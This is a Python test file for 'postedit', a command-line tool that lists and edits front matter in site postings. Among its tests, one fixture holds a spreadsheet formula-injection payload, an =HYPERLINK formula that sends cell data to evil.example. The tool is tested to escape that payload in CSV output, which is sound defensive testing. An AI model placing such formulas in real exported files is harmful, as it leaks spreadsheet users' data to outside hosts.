"""`postedit list` and `postedit set`: the contract other tools rely on."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from postedit.cli import main
from tests.conftest import git, run_cli

POSTING = b"---\nroles: Dev\nopen: true  # still hiring\ndate: 2021-09-01\n---\n## Body\n"


def run(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return run_cli(*args, cwd=cwd)


def run_process(*args: str) -> subprocess.CompletedProcess[str]:
    """``python -m postedit ARGS``: for the exit status the process ends with."""
    return subprocess.run([sys.executable, "-m", "postedit", *args], capture_output=True, text=True)


@pytest.fixture
def site(make_repo):  # type: ignore[no-untyped-def]
    return make_repo(
        {
            "content/_jobs/a.md": POSTING,
            "content/_jobs/b b é.md": POSTING.replace(b"Dev", b"Ops"),
            "content/_jobs/broken.md": b"---\ntitle: [oops\n---\n",
            "content/_jobs/notes.txt": b"not a posting",
            "node_modules/x/_jobs/c.md": POSTING,
            ".hidden/d.md": POSTING,
            "README.md": b"# site\n",
        }
    )


def test_list_json_contract(site: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["list", "--repo", str(site), "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert [r["path"] for r in rows] == [
        "content/_jobs/a.md",
        "content/_jobs/b b é.md",
        "content/_jobs/broken.md",
    ]
    assert {r["collection"] for r in rows} == {"jobs"}
    assert rows[0]["fields"] == {"roles": "Dev", "open": True, "date": "2021-09-01"}
    assert rows[0]["errors"] == []
    assert rows[2]["fields"] == {} and "content/_jobs/broken.md:2" in rows[2]["errors"][0]


def test_a_broken_posting_s_state_is_error_in_json_csv_and_queries(
    site: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Front matter that cannot be read says nothing of what the site does with the page:
    its state is ``error`` in JSON and CSV alike (JSON said ``published``), and it is not
    among the postings ``is:published`` lists."""
    assert main(["list", "--repo", str(site), "--format", "json"]) == 0
    states = {r["path"]: r["state"] for r in json.loads(capsys.readouterr().out)}
    assert states["content/_jobs/broken.md"] == "error"
    assert main(["list", "--repo", str(site), "--format", "csv"]) == 0
    rows = capsys.readouterr().out.splitlines()[1:]
    assert {row.split(",")[0]: row.split(",")[4] for row in rows} == states
    assert main(["list", "--repo", str(site), "--format", "csv", "--where", "is:published"]) == 0
    listed = [row.split(",")[0] for row in capsys.readouterr().out.splitlines()[1:]]
    assert "content/_jobs/broken.md" not in listed and "content/_jobs/a.md" in listed


def test_sets_and_bytes_are_listed_in_a_stable_form(
    make_repo,  # type: ignore[no-untyped-def]
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A YAML set has no order: JSON and CSV list it sorted, the same at every run (a set of
    1 and 8 iterates as 8, 1); binary is its text in CSV as in JSON, never a Python repr."""
    site = make_repo({"_jobs/a.md": b"---\ns: !!set {1, 8}\nb: !!binary aGVsbG8=\n---\n"})
    assert main(["list", "--repo", str(site), "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)[0]["fields"] == {"s": [1, 8], "b": "hello"}
    assert main(["list", "--repo", str(site), "--format", "csv"]) == 0
    row = capsys.readouterr().out.splitlines()[1]
    assert row.endswith(',"[1, 8]",hello')


def test_a_duplicate_key_has_one_wording_in_errors_and_findings(
    make_repo,  # type: ignore[no-untyped-def]
    capsys: pytest.CaptureFixture[str],
) -> None:
    root = make_repo({"content/_jobs/a.md": b"---\nroles: Dev\nopen: true\nopen: false\n---\n"})
    assert main(["list", "--repo", str(root), "--format", "json"]) == 0
    [row] = json.loads(capsys.readouterr().out)
    said = "duplicate key 'open' (lines 3 and 4): only the last value counts"
    assert row["errors"] == [f"content/_jobs/a.md:4: {said}"]
    assert [f["message"] for f in row["findings"]] == [said]


def test_the_table_s_status_column_is_the_collection_s_own(
    make_repo,  # type: ignore[no-untyped-def]
    capsys: pytest.CaptureFixture[str],
) -> None:
    root = make_repo(
        {
            "admin/config.yml": (
                "backend: {name: github}\ncollections:\n"
                "  - {name: jobs, folder: _jobs, fields: [{name: title}, "
                "{name: open, widget: boolean}]}\n"
                "  - {name: news, folder: _news, fields: [{name: title}, "
                "{name: published, widget: boolean}]}\n"
                "  - {name: startups, folder: _startups, fields: [{name: title}]}\n"
            ),
            "_jobs/a.md": "---\ntitle: Dev\nopen: true\n---\n",
            "_news/b.md": "---\ntitle: Launch\npublished: false\n---\n",
            "_startups/c.md": "---\ntitle: Mon produit\n---\n",
        }
    )
    tables = {}
    for name in ("jobs", "news", "startups"):
        assert main(["list", "--repo", str(root), "--collection", name]) == 0
        tables[name] = capsys.readouterr().out.splitlines()[1:]
    assert [line.split() for line in tables["jobs"]] == [
        ["!", "S", "open", "date", "title", "file"],
        ["true", "Dev", "a.md"],
    ]
    assert [line.split() for line in tables["news"]] == [
        ["!", "S", "publis", "date", "title", "file"],  # the status field, cut to its column
        ["d", "false", "Launch", "b.md"],
        ["#", "S:", "d", "draft"],
    ]
    assert tables["startups"] == [
        f"{'!':4} S {'date':10} {'title':48} file",
        f"{'':4}   {'':10} {'Mon produit':48} c.md",
    ]


def test_the_table_says_what_the_site_does_with_each_posting_as_the_tui_does(
    make_repo,  # type: ignore[no-untyped-def]
    capsys: pytest.CaptureFixture[str],
) -> None:
    """The table had no state (only ``--format json`` did): a draft, a scheduled, an
    expired and an unreadable posting now get the letter of the TUI's ``S`` column
    (site.STATE_MARKS), and a legend names the letters shown; a line stays within 80
    columns up to the file's name."""
    page = "---\ntitle: {}\ndate: {}\n{}---\nx\n"
    root = make_repo(
        {
            "_posts/a.md": page.format("Out", "2024-01-02", ""),
            "_posts/b.md": page.format("Draft", "2024-01-02", "draft: true\n"),
            "_posts/c.md": page.format("Later", "2999-01-02", ""),
            "_posts/d.md": page.format("Gone", "2024-01-02", "expiryDate: 2024-02-01\n"),
            "_posts/e.md": "---\ntitle: [unclosed\n---\nx\n",
        }
    )
    assert main(["list", "--repo", str(root)]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert [line.split(maxsplit=2)[:2] for line in lines[2:-1]] == [
        ["2024-01-02", "Out"],
        ["d", "true"],
        ["s", "2999-01-02"],
        ["x", "2024-01-02"],
        ["E1", "?"],
    ]
    assert lines[1] == f"{'!':4} S {'draft':6} {'date':10} {'title':48} file"
    assert lines[3] == f"{'':4} d {'true':6} {'2024-01-02':10} {'Draft':48} b.md"
    assert lines[-1] == "# S: d draft, s scheduled, x expired, ? unreadable front matter"
    assert all(len(line.rsplit(" ", 1)[0]) <= 80 for line in lines[1:-1])


def test_the_table_s_file_column_stays_in_place_after_emoji_and_combining_accents(
    make_repo,  # type: ignore[no-untyped-def]
    capsys: pytest.CaptureFixture[str],
) -> None:
    """qa28: the table padded titles by characters: on the beta.gouv offers eight rows whose
    title holds an emoji (two cells each: `😍 Profil recherché...`, `CHARGÉ·E DE CROISSANCE
    🌱`) pushed their file name one cell right, and a title with decomposed accents (as macOS
    writes them: e + U+0301) pulled it left by one per accent."""
    titles = {
        "a.md": "Dev",
        "b.md": "😍 Profil recherché : chargé d'assistance aux utilisateurs et plus",
        "c.md": "CHARGÉ·E DE CROISSANCE 🌱",
        "d.md": "De\u0301veloppeuse e\u0301quipe",  # YAML escapes: decomposed accents
        "e.md": "開発者 募集",
        "f.md": "Typescript / React \u269b\ufe0f et 👩\u200d💻",  # two cells each
    }
    root = make_repo(
        {f"_posts/{name}": f'---\ntitle: "{title}"\n---\n' for name, title in titles.items()}
    )
    assert main(["list", "--repo", str(root)]) == 0
    lines = capsys.readouterr().out.splitlines()[2:]
    assert len(lines) == len(titles)
    for line, name in zip(lines, titles, strict=True):
        start = line.index(name)
        assert _cells(line[:start]) == 4 + 1 + 1 + 1 + 10 + 1 + 48 + 1, line


def _cells(text: str) -> int:
    """Terminal cells of ``text`` as Rich (Textual's) counts them, grapheme by grapheme."""
    from rich.cells import cell_len

    return cell_len(text)


def test_a_csv_list_is_its_json_array_so_an_item_may_hold_a_comma(
    make_repo,  # type: ignore[no-untyped-def]
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A list joined with ", " could not be told from a longer list (or from text holding a
    comma): a list is its JSON array in its cell, as a mapping already was, which a script
    reads back with any JSON reader and ``postedit set --field`` takes as it is."""
    site = make_repo(
        {
            "_jobs/a.md": (
                '---\ncities: ["Paris, France", Lyon]\nplace: Paris, France\n'
                "one: [Lyon]\nwhen: [2024-01-02]\nnone: []\n---\n"
            )
        }
    )
    assert main(["list", "--repo", str(site), "--format", "csv"]) == 0
    header, row = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    cells = dict(zip(header, row, strict=True))
    assert cells["cities"] == '["Paris, France", "Lyon"]'
    assert json.loads(cells["cities"]) == ["Paris, France", "Lyon"]
    assert (cells["place"], cells["one"], cells["when"], cells["none"]) == (
        "Paris, France",
        '["Lyon"]',
        '["2024-01-02"]',
        "[]",
    )


HOSTILE_CELLS = (
    "---\n"
    'title: \'=HYPERLINK("https://evil.example/?d="&A1,"Apply")\'\n'
    "phone: +33 6 12 34 56 78\n"
    "total: '@SUM(A1:A9)'\n"
    "spaced: '  -1+2'\n"
    'tab: "\\t=1+1"\n'
    "minus: -3\n"
    "half: -2.5\n"
    "quoted: '-3'\n"
    "low: -.inf\n"
    "list: ['=1+1', -x]\n"
    "when: 2024-01-02\n"
    "'=key': v\n"
    "---\n"
)


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_marked_as_text(
    make_repo,  # type: ignore[no-untyped-def]
    capsysbinary: pytest.CaptureFixture[bytes],
) -> None:
    """Postings are other people's text, and the CSV is opened in spreadsheets, which run a
    cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula (``=HYPERLINK`` sends the
    sheet's data away): such text, and a key in the header, is written after a ``'``, the
    spreadsheets' mark for text (after leading spaces too; a tab is already its escape). A
    number stays a number (``-3``, ``-2.5``), a list its JSON, a date its ISO text; text
    that reads ``-3`` is text, and so is ``-inf``. JSON keeps every value exact."""
    site = make_repo({"_jobs/a.md": HOSTILE_CELLS})
    assert main(["list", "--repo", str(site), "--format", "csv"]) == 0
    title = b'"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Apply"")"'  # csv's quotes
    assert capsysbinary.readouterr().out == (
        b"path,collection,site_date,site_title,site_state,title,phone,total,spaced,tab,"
        b"minus,half,quoted,low,list,when,'=key\n"
        b"_jobs/a.md,jobs,," + title + b",published," + title + b","
        b"'+33 6 12 34 56 78,'@SUM(A1:A9),'  -1+2,\\t=1+1,-3,-2.5,'-3,'-inf,"
        b'"[""=1+1"", ""-x""]",2024-01-02,v\n'
    )
    assert main(["list", "--repo", str(site), "--format", "json"]) == 0
    fields = json.loads(capsysbinary.readouterr().out)[0]["fields"]
    assert (fields["title"], fields["total"], fields["minus"], fields["=key"]) == (
        '=HYPERLINK("https://evil.example/?d="&A1,"Apply")',
        "@SUM(A1:A9)",
        -3,
        "v",
    )


def test_a_csv_number_too_large_for_a_float_is_written_as_it_is(
    make_repo,  # type: ignore[no-untyped-def]
    capsysbinary: pytest.CaptureFixture[bytes],
) -> None:
    """YAML reads any run of digits as an integer, however long; one no float can hold (a
    posting is other people's text) is a number all the same, written as the file holds it,
    and the other postings are listed: it never stops the CSV."""
    big = "1" + "0" * 400
    site = make_repo(
        {
            "_jobs/a.md": f"---\ntitle: A\nbig: {big}\nlow: -{big}\n---\n",
            "_jobs/b.md": "---\ntitle: B\n---\n",
        }
    )
    assert main(["list", "--repo", str(site), "--format", "csv"]) == 0
    assert capsysbinary.readouterr().out == (
        b"path,collection,site_date,site_title,site_state,title,big,low\n"
        b"_jobs/a.md,jobs,,A,published,A," + big.encode() + b",-" + big.encode() + b"\n"
        b"_jobs/b.md,jobs,,B,published,B,,\n"
    )


def test_list_json_site_values(make_repo, capsys: pytest.CaptureFixture[str]) -> None:  # type: ignore[no-untyped-def]
    root = make_repo(
        {
            "admin/config.yml": (
                "backend: {name: github}\nsite_url: https://example.org\ncollections:\n"
                "  - name: posts\n    folder: _posts\n    identifier_field: headline\n"
                "    preview_path: 'blog/{{year}}/{{slug}}'\n"
                "    fields: [{name: headline, widget: string}, {name: draft, widget: boolean}]\n"
            ),
            "_posts/2021-09-01-Hello.md": "---\nheadline: Hello\n---\nText.\n",
            "_posts/2031-01-01-later.md": "---\nheadline: Later\n---\n",
            "_posts/undated.md": "---\ntitle: Undated\ndraft: true\ndate: 2020-02-03 10:00\n---\n",
        }
    )
    assert main(["list", "--repo", str(root), "--format", "json"]) == 0
    rows = {r["path"].rsplit("/", 1)[1]: r for r in json.loads(capsys.readouterr().out)}
    hello, later, undated = (
        rows[n] for n in ("2021-09-01-Hello.md", "2031-01-01-later.md", "undated.md")
    )
    assert (hello["title"], hello["date"], hello["state"], hello["url"]) == (
        "Hello",
        "2021-09-01",
        "published",
        "https://example.org/blog/2021/2021-09-01-hello",
    )
    assert hello["fields"] == {"headline": "Hello"}  # what the file holds, nothing added
    assert (later["date"], later["state"]) == ("2031-01-01", "scheduled")
    assert (undated["title"], undated["date"], undated["state"]) == (
        "Undated",
        "2020-02-03T10:00:00",
        "draft",
    )
    assert undated["url"] == "https://example.org/blog/2020/undated"
    assert main(["list", "--repo", str(root)]) == 0
    table = capsys.readouterr().out.splitlines()
    assert table[2].split()[-3:] == ["2021-09-01", "Hello", "2021-09-01-Hello.md"]


def test_list_defaults_to_repo_around_cwd(site: Path) -> None:
    out = run("list", "--format", "json", cwd=site / "content")
    assert out.returncode == 0, out.stderr
    assert len(json.loads(out.stdout)) == 3


def test_set_writes_only_the_line(site: Path) -> None:
    target = site / "content/_jobs/b b é.md"
    before = target.read_bytes()
    out = run("set", "--repo", str(site), str(target), "--field", "open=false")
    assert out.returncode == 0, out.stderr
    assert target.read_bytes() == before.replace(b"open: true  #", b"open: false  #")
    # same value again: nothing written (mtime unchanged)
    mtime = target.stat().st_mtime_ns
    assert run("set", "--repo", str(site), str(target), "--field", "open=false").returncode == 0
    assert target.stat().st_mtime_ns == mtime


def test_set_says_what_it_changed_in_each_file(
    site: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``set`` printed nothing on success (``new`` and ``restore`` say what they did): one
    line a file now, each field's value before and after (messages.edit_words), a file it
    left as it was said so, then the commit's line; a failure on stderr, the others said."""
    a, b = "content/_jobs/a.md", "content/_jobs/b b é.md"
    args = ["set", "--repo", str(site)]
    assert main([*args, a, b, "--field", "open=false", "--field", "roles=Lead"]) == 0
    assert capsys.readouterr() == (
        f'{a}: roles: "Dev" -> "Lead"; open: true -> false\n'
        f'{b}: roles: "Ops" -> "Lead"; open: true -> false\n',
        "",
    )
    assert main([*args, a, "--field", "open=false", "--unset", "date", "--field", "n=1"]) == 0
    assert capsys.readouterr().out == f"{a}: date: 2021-09-01 -> (removed); n: (absent) -> 1\n"
    assert main([*args, a, "content/_jobs/broken.md", "--field", "open=false", "--commit"]) == 1
    out, err = capsys.readouterr()
    assert out == f"{a}: unchanged (already so)\n" and "broken.md:2: error:" in err
    assert main([*args, a, b, "--field", "open=true", "--commit", "-m", "Reopen"]) == 0
    said = capsys.readouterr().out.splitlines()
    assert said[:2] == [f"{a}: open: false -> true", f"{b}: open: false -> true"]
    assert said[2].startswith("committed ") and said[2].endswith(" Reopen (2 files)")
    assert git(site, "log", "-1", "--format=%s").strip() == "Reopen"
    assert main([*args, "--where", "open:true", "--field", "open=false"]) == 0
    assert capsys.readouterr().out == (  # a bulk edit: the count, then a line a file
        f"2 postings match 'open:true'\n{a}: open: true -> false\n{b}: open: true -> false\n"
    )


def test_a_bulk_set_says_an_error_the_postings_share_once(
    site: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``set --where ... --field open=maybe`` said the same error once per posting matched
    (158 lines for the season's close on the real offers): once now, at the first posting,
    then how many others it stopped; exit 1, nothing written."""
    before = (site / "content/_jobs/a.md").read_bytes()
    args = ["set", "--repo", str(site), "--where", "open:true", "--field", "open=maybe"]
    assert main(args) == 1
    out, err = capsys.readouterr()
    assert out == "2 postings match 'open:true'\n"
    said = "open: expected true or false, found 'maybe'"
    assert err == (
        f"content/_jobs/a.md:3: error: {said}\n"
        f"postedit: error: the same in 1 other posting, not edited: {said}\n"
    )
    assert (site / "content/_jobs/a.md").read_bytes() == before


def test_set_types_values_without_schema(site: Path) -> None:
    target = site / "content/_jobs/a.md"
    out = run(
        "set",
        "--repo",
        str(site),
        str(target),
        "--field",
        "date=2022-01-31",
        "--field",
        "n=12",
        "--field",
        "contact=",
        "--field",
        "t=yes we can",
        "--unset",
        "roles",
    )
    assert out.returncode == 0, out.stderr
    assert target.read_bytes() == (
        b"---\nopen: true  # still hiring\ndate: 2022-01-31\nn: 12\ncontact:\nt: yes we can\n---\n## Body\n"
    )


def test_set_refuses_a_new_key_that_looks_like_a_misspelt_field(
    site: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = site / "content/_jobs/a.md"
    before = target.read_bytes()
    args = ["set", "--repo", str(site), str(target)]
    assert main([*args, "--field", "opne=false"]) == 1
    err = capsys.readouterr().err
    assert "content/_jobs/a.md: error: unknown key 'opne' (did you mean 'open'?)" in err
    assert "--force adds it" in err
    assert target.read_bytes() == before
    assert main([*args, "--field", "layout=job"]) == 0  # near no field: the user's own key
    assert main([*args, "--field", "opne=false", "--force"]) == 0
    assert target.read_bytes() == before.replace(
        b"---\n## Body", b"layout: job\nopne: false\n---\n## Body"
    )
    assert main([*args, "--field", "opne=true"]) == 0  # there already: its value may change
    assert b"opne: true\n" in target.read_bytes()


def test_set_reports_bad_file_and_edits_the_others(site: Path) -> None:
    good = site / "content/_jobs/a.md"
    bad = site / "content/_jobs/broken.md"
    bad_before = bad.read_bytes()
    out = run("set", "--repo", str(site), str(bad), str(good), "--field", "open=false")
    assert out.returncode == 1
    assert "content/_jobs/broken.md:2: error:" in out.stderr
    assert "Traceback" not in out.stderr
    assert bad.read_bytes() == bad_before
    assert b"open: false" in good.read_bytes()


def test_set_usage_errors_exit_2(site: Path) -> None:
    assert run_process("set", "--repo", str(site), "x.md").returncode == 2
    assert run_process("set", "--repo", str(site), "x.md", "--field", "novalue").returncode == 2
    out = run_process("set", "--repo", str(site), "/elsewhere/x.md", "--field", "a=1")
    assert out.returncode == 2 and "not inside the repository" in out.stderr


def test_set_missing_file_is_reported(site: Path) -> None:
    out = run("set", "--repo", str(site), str(site / "content/_jobs/nope.md"), "--field", "a=1")
    assert out.returncode == 1 and "Traceback" not in out.stderr
    # the system's words in a `path: error: message` line, lower case as every message
    assert out.stderr == "content/_jobs/nope.md: error: no such file or directory\n"


def test_an_argument_a_command_does_not_take_is_shown_with_that_commands_usage(
    site: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``postedit list x.md`` showed postedit's own usage (``postedit [-h] [--version]
    ... COMMAND``) above the error, not that of ``list``: now the command's, exit 2."""
    for args in (["list", "x.md"], ["list", "--bogus"], ["--debug", "check", "--bogus"]):
        with pytest.raises(SystemExit) as stop:
            main([*args, "--repo", str(site)])
        assert stop.value.code == 2
        err = capsys.readouterr().err
        command = next(a for a in args if not a.startswith("-"))
        assert err.startswith(f"usage: postedit {command} [-h] [--repo DIR]"), err
        assert err.endswith(f"postedit: error: unrecognized arguments: {args[-1]}\n")


# Found by trying the CLI as a user (QA), fixed here.


def test_same_file_twice_is_edited_once(site: Path) -> None:
    target = site / "content/_jobs/a.md"
    out = run("set", str(target), "./content/_jobs/a.md", "--field", "open=false", cwd=site)
    assert out.returncode == 0, out.stderr
    assert target.read_bytes().count(b"open: false") == 1


def test_symlink_posting_is_refused_with_a_clear_reason(site: Path) -> None:
    (site / "content/_jobs/link.md").symlink_to("a.md")
    before = (site / "content/_jobs/a.md").read_bytes()
    out = run(
        "set", "--repo", str(site), str(site / "content/_jobs/link.md"), "--field", "open=false"
    )
    assert (
        out.returncode == 1
        and "symbolic link" in out.stderr
        and "changed on disk" not in out.stderr
    )
    assert (site / "content/_jobs/a.md").read_bytes() == before


def test_list_values_are_read_as_yaml_flow(site: Path) -> None:
    target = site / "content/_jobs/a.md"
    out = run("set", "--repo", str(site), str(target), "--field", 'd=[c, "d, e"]')
    assert out.returncode == 0, out.stderr
    assert b'd: [c, "d, e"]' not in target.read_bytes()  # written in block style (a new key)
    listed = json.loads(run("list", "--repo", str(site), "--format", "json").stdout)
    assert listed[0]["fields"]["d"] == ["c", "d, e"]


def test_repo_subfolder_with_a_path_relative_to_it(site: Path, tmp_path: Path) -> None:
    out = run(
        "set", "--repo", str(site / "content/_jobs"), "a.md", "--field", "open=false", cwd=tmp_path
    )
    assert out.returncode == 0, out.stderr
    assert b"open: false" in (site / "content/_jobs/a.md").read_bytes()


def test_a_fifo_named_like_a_posting_does_not_hang(site: Path) -> None:
    os.mkfifo(site / "content/_jobs/x.md")
    out = subprocess.run(
        [sys.executable, "-m", "postedit", "list", "--repo", str(site), "--format", "json"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert out.returncode == 0
    rows = {r["path"]: r for r in json.loads(out.stdout)}
    assert "not a regular file" in rows["content/_jobs/x.md"]["errors"][0]


def test_repo_that_is_a_file_or_missing_is_usage(site: Path) -> None:
    assert run_process("list", "--repo", str(site / "README.md")).returncode == 2
    assert run_process("list", "--repo", str(site / "nope")).returncode == 2


def test_value_error_names_the_line(site: Path, tmp_path: Path) -> None:
    (site / "postedit.yml").write_text(
        "collections:\n  - name: jobs\n    folder: content/_jobs\n    fields:\n"
        "      - {name: open, type: boolean}\n      - {name: date, type: date}\n"
    )
    target = site / "content/_jobs/a.md"
    out = run("set", "--repo", str(site), str(target), "--field", "open=maybe")
    assert out.returncode == 1
    # the words check (and the commit dialog) use for the same value in a file
    assert "content/_jobs/a.md:3: error: open: expected true or false, found 'maybe'" in out.stderr
    target.write_bytes(target.read_bytes().replace(b"open: true", b"open: maybe"))
    out = run("check", "--repo", str(site), str(target))
    assert "content/_jobs/a.md:3: error: open: expected true or false, found 'maybe'" in out.stdout


def test_a_value_its_field_finds_wrong_is_refused_unless_forced(site: Path) -> None:
    """``set`` refuses a value the form would refuse (an option the select does not list, a
    mistyped address), with the field's own message and the option meant; the file stays
    byte for byte, and no commit is made. ``--force`` writes it all the same (a new option
    the schema does not list yet)."""
    (site / "postedit.yml").write_text(
        "collections:\n  - name: jobs\n    folder: content/_jobs\n    fields:\n"
        "      - {name: open, type: boolean}\n      - {name: date, type: date}\n"
        "      - {name: roles, type: select, options: [Dev, Ops, Design]}\n"
        "      - {name: contact, type: string, pattern: '^[^@ ]+@[^@ ]+$'}\n"
    )
    git(site, "add", "postedit.yml")
    git(site, "commit", "-q", "-m", "schema")
    target = site / "content/_jobs/a.md"
    before, head = target.read_bytes(), git(site, "rev-parse", "HEAD")
    out = run("set", "--repo", str(site), str(target), "--field", "roles=Desing", "--commit")
    assert out.returncode == 1
    assert (
        "content/_jobs/a.md:2: error: roles: 'Desing' is not one of the options "
        "(did you mean 'Design'?) (--force writes it all the same)"
    ) in out.stderr
    out = run("set", "--repo", str(site), str(target), "--field", "contact=someone")
    assert out.returncode == 1 and "contact:" in out.stderr
    assert target.read_bytes() == before and git(site, "rev-parse", "HEAD") == head
    assert run("set", "--repo", str(site), str(target), "--field", "roles=Design").returncode == 0
    assert b"roles: Design\n" in target.read_bytes()
    out = run("set", "--repo", str(site), str(target), "--field", "roles=Data", "--force")
    assert out.returncode == 0, out.stderr
    assert target.read_bytes() == before.replace(b"roles: Dev", b"roles: Data")


def test_a_list_s_items_typed_as_a_b_are_typed_by_its_item_type(site: Path) -> None:
    """``--field sizes=1, 2`` on a list of whole numbers is the list [1, 2], as the form's
    item inputs type each item: read as the texts '1' and '2', set refused the value as
    not whole numbers (and without the check it wrote them quoted, which check refuses)."""
    (site / "postedit.yml").write_text(
        "collections:\n  - name: jobs\n    folder: content/_jobs\n    fields:\n"
        "      - {name: sizes, type: list, item_type: integer}\n"
    )
    target = site / "content/_jobs/a.md"
    out = run("set", "--repo", str(site), str(target), "--field", "sizes=1, 2")
    assert out.returncode == 0, out.stderr
    assert b"sizes:\n  - 1\n  - 2\n" in target.read_bytes()
    out = run("set", "--repo", str(site), str(target), "--field", "sizes=1, two")
    assert out.returncode == 1
    assert "sizes: expected a whole number, found 'two'" in out.stderr


def test_an_object_is_given_as_a_yaml_flow_mapping(site: Path) -> None:
    """``--field meta={lang: fr}`` sets an object field, as ``[{url: ...}]`` sets a list of
    objects; it was the text '{lang: fr}', which set then refused as no mapping."""
    (site / "postedit.yml").write_text(
        "collections:\n  - name: jobs\n    folder: content/_jobs\n    fields:\n"
        "      - {name: meta, type: object, fields: [{name: lang, type: string}]}\n"
    )
    target = site / "content/_jobs/a.md"
    out = run("set", "--repo", str(site), str(target), "--field", "meta={lang: fr}")
    assert out.returncode == 0, out.stderr
    assert b"meta:\n  lang: fr\n" in target.read_bytes()


def test_a_dotted_key_goes_inside_its_object_field_and_not_into_a_list(site: Path) -> None:
    """``--field meta.lang=fr`` wrote a top-level key named ``meta.lang`` that the site
    ignores, exit 0; then it was refused. It sets the key inside the object field now (made
    when the posting has none: tests/test_cli_nested.py has the lossless cases). A key inside
    a list field is refused (set writes a list whole); a dotted key the schema does not tie
    to an object stays a key of its own."""
    (site / "postedit.yml").write_text(
        "collections:\n  - name: jobs\n    folder: content/_jobs\n    fields:\n"
        "      - {name: meta, type: object, fields: [{name: lang, type: string}]}\n"
        "      - {name: links, type: list, fields: [{name: url, type: string}]}\n"
    )
    target = site / "content/_jobs/a.md"
    before = target.read_bytes()
    out = run("set", "--repo", str(site), str(target), "--field", "meta.lang=fr")
    assert out.returncode == 0, out.stderr
    assert target.read_bytes() == before.replace(b"---\n##", b"meta:\n  lang: fr\n---\n##")
    before = target.read_bytes()
    out = run("set", "--repo", str(site), str(target), "--field", "links.url=x")
    assert out.returncode == 1
    assert "content/_jobs/a.md: error: links.url: 'links' is a list" in out.stderr
    assert "--field 'links=[...]'" in out.stderr
    assert target.read_bytes() == before
    out = run("set", "--repo", str(site), str(target), "--field", "og.title=x")
    assert out.returncode == 0, out.stderr
    assert b"og.title: x\n" in target.read_bytes()


def test_a_relation_to_an_entry_that_does_not_exist_is_refused(make_repo) -> None:  # type: ignore[no-untyped-def]
    """``--field author=zed`` where no author ``zed`` exists: check reports it, so set
    refuses it, with the entry meant; an existing entry is set."""
    site = make_repo(
        {
            "postedit.yml": "collections:\n"
            "  - name: jobs\n    folder: content/_jobs\n    fields:\n"
            "      - {name: author, type: relation, collection: authors}\n"
            "  - name: authors\n    folder: content/authors\n    fields: [{name: title}]\n",
            "content/_jobs/a.md": POSTING,
            "content/authors/ann.md": "---\ntitle: Ann\n---\n",
            "content/authors/bob.md": "---\ntitle: Bob\n---\n",
        }
    )
    target = site / "content/_jobs/a.md"
    out = run("set", "--repo", str(site), str(target), "--field", "author=anne")
    assert out.returncode == 1
    assert "author: 'anne' is not an entry of 'authors'" in out.stderr and "'ann'" in out.stderr
    assert target.read_bytes() == POSTING
    out = run("set", "--repo", str(site), str(target), "--field", "author=bob")
    assert out.returncode == 0, out.stderr
    assert b"author: bob\n" in target.read_bytes()


def test_a_multiple_relation_is_set_as_a_list_of_entries(make_repo) -> None:  # type: ignore[no-untyped-def]
    """``--field authors=ann,bob`` on a ``multiple`` relation was the text ``ann,bob`` (and
    so refused as no entry): it is the list Decap writes, byte for byte as the form saves it
    (tests/tui/test_editor_relation.py), each entry checked; the rest of the file stays."""
    site = make_repo(
        {
            "postedit.yml": "collections:\n"
            "  - name: posts\n    folder: content/posts\n    fields:\n"
            "      - {name: title}\n"
            "      - {name: author, type: relation, collection: authors}\n"
            "      - {name: authors, type: relation, collection: authors, multiple: true}\n"
            "  - name: authors\n    folder: content/authors\n    fields: [{name: title}]\n",
            "content/posts/hello.md": "---\ntitle: Hello  # the heading\nauthor: ann\n---\nBody.\n",
            "content/authors/ann.md": "---\ntitle: Ann\n---\n",
            "content/authors/bob.md": "---\ntitle: Bob\n---\n",
        }
    )
    target = site / "content/posts/hello.md"
    before = target.read_bytes()
    out = run("set", "--repo", str(site), str(target), "--field", "authors=ann,zed")
    assert out.returncode == 1
    assert "authors: 'zed' is not an entry of 'authors'" in out.stderr, out.stderr
    assert target.read_bytes() == before
    out = run("set", "--repo", str(site), str(target), "--field", "authors=ann,bob")
    assert out.returncode == 0, out.stderr
    assert target.read_bytes() == (
        b"---\ntitle: Hello  # the heading\nauthor: ann\nauthors:\n  - ann\n  - bob\n---\nBody.\n"
    )
    out = run("check", "--repo", str(site))
    assert out.returncode == 0, out.stdout + out.stderr


def test_contradictory_options_are_usage_errors(site: Path) -> None:
    t = str(site / "content/_jobs/a.md")
    assert (
        run_process(
            "set", "--repo", str(site), t, "--field", "open=true", "--unset", "open"
        ).returncode
        == 2
    )
    assert (
        run_process("set", "--repo", str(site), t, "--field", "k=1", "--field", "k=2").returncode
        == 2
    )
    assert run_process("set", "--repo", str(site), t, "--field", "k=1", "-m", "msg").returncode == 2
    assert b"k:" not in (site / "content/_jobs/a.md").read_bytes()


@pytest.mark.parametrize("n", [0, 1, 499, 500, 501, 1203])
def test_json_list_written_in_chunks_is_the_whole_list_dumped(n: int) -> None:
    import datetime as dt
    import io

    from postedit.cli.listing import dumps, write_json_list

    items = [
        {"i": i, "d": dt.date(2021, 1, 1 + i % 28), "t": "’é🙂", "l": [i, None, float("nan")]}
        for i in range(n)
    ]
    out = io.StringIO()
    write_json_list(iter(items), out)
    assert out.getvalue() == dumps(items) + "\n"
    assert len(json.loads(out.getvalue())) == n


@pytest.mark.parametrize("with_schema", [True, False])
def test_set_leaves_the_cache_of_every_posting_alone(
    site: Path, monkeypatch: pytest.MonkeyPatch, with_schema: bool
) -> None:
    """`set` reads the postings it names: loading and saving the cache of them all would
    cost more than the edit; a schema to infer is inferred from a sample."""
    from postedit.core import cache, store

